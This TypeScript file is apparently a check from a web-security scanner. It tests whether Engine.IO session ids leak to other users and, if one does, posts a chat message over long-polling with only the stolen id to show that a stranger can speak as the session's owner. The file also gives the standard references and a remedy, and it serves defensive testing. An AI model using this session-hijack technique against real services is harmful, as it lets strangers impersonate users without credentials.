import { encodePacket } from '../../../target/wire/index.ts'
import { defineAttack } from '../../attack.ts'
import { inconclusive, resisted, vulnerable } from '../../judge.ts'
import { control, openWitness } from '../../kit/attempt.ts'
import { fetchPath } from '../../kit/fetch-path.ts'
import { overhear } from '../../kit/overheard.ts'
import { pollingPath } from '../../kit/polling-path.ts'

export default defineAttack({
  id: 'eio/sid-leaked',
  rows: ['eio.sid.leaked', 'eio.sid.steal-poll', 'eio.sid.steal-upgrade', 'eio.sid.kill'],
  title: 'Looks for the id of an Engine.IO session in what other users are told, and speaks with it',
  requirement: 'ASVS V7.2.3: who knows the id of a session is its owner; nobody else may be told it',
  impact: 'Over polling the id is all that is asked for: others read, speak and hang up in its owner’s place.',
  remedy: 'Never emit socket.conn.id (or io.engine ids): name people by their user id, sockets by socket.id.',
  severity: 'high',
  cwe: ['CWE-200', 'CWE-384', 'CWE-404'],
  references: ['ASVS V7.2.3'],
  provenBy: 'emit-conn-id',
  needs: ['polling'],
  effect: 'write',
  holds: 'account',
  async run(context) {
    const { target, settleMs } = context
    const witness = await openWitness(context)
    const { session, heard, told } = await overhear(context, witness, { transport: 'polling' })
    const { sid } = session.engine.open
    const leaking = told.filter((event) => event.includes(sid))
    const where = leaking.map((event) => event.split(' ')[0]).join(', ')
    context.note('received', `of ${told.length} events that another user got, with the id in them: ${where || 'none'}`)
    if (leaking.length > 0) {
      const { namespace, chat } = target.profile
      const text = context.canary()
      const data = [chat.send.event, ...target.messageArgs(text)]
      const packet = encodePacket({
        type: 'event',
        nsp: namespace,
        data,
        ...(chat.send.ack === false ? {} : { id: 900 }),
      })
      // From another address and without a credential: the id alone.
      const { status } = await fetchPath(context, pollingPath(context, { sid }), {
        method: 'POST',
        body: `4${packet.text}`,
        headers: [['content-type', 'text/plain;charset=UTF-8']],
      })
      const through = (await witness.heard(text, settleMs)) !== undefined
      context.note(
        'received',
        `a stranger’s post with it: HTTP ${status}, ${through ? 'heard as its owner' : 'not heard'}`,
      )
      const { attacker, victim } = context
      context.recording.written(
        ({ value, door }) => `const listener = await connect(${door({ token: victim.token })}, true)
const owner = await connect(${door({ token: attacker.token, transport: 'polling' })}, true)
const { id } = owner.manager.engine
emit(owner, ${value(namespace)}, ${value(chat.send.event)}, ${value(target.messageArgs(context.canary()))}, true)
await until(() => listener.received.some((event) => event.includes(id)), 'the id of the session is not told')${
          through
            ? `
// A stranger, who has nothing but the id.
await ask('POST', ${value(pollingPath(context, { sid: '' }))}.replace('sid=', 'sid=' + id), { 'content-type': 'text/plain;charset=UTF-8' }, ${value(`4${packet.text}`)})
await hears(listener, ${value(text)})`
            : ''
        }`,
      )
    }
    await session.close()
    const last = await control(context, 'an honest client', witness)
    if (leaking.length > 0) return vulnerable(context.evidence)
    return heard ? resisted(last.observation, context.evidence) : inconclusive('the session was not heard')
  },
})
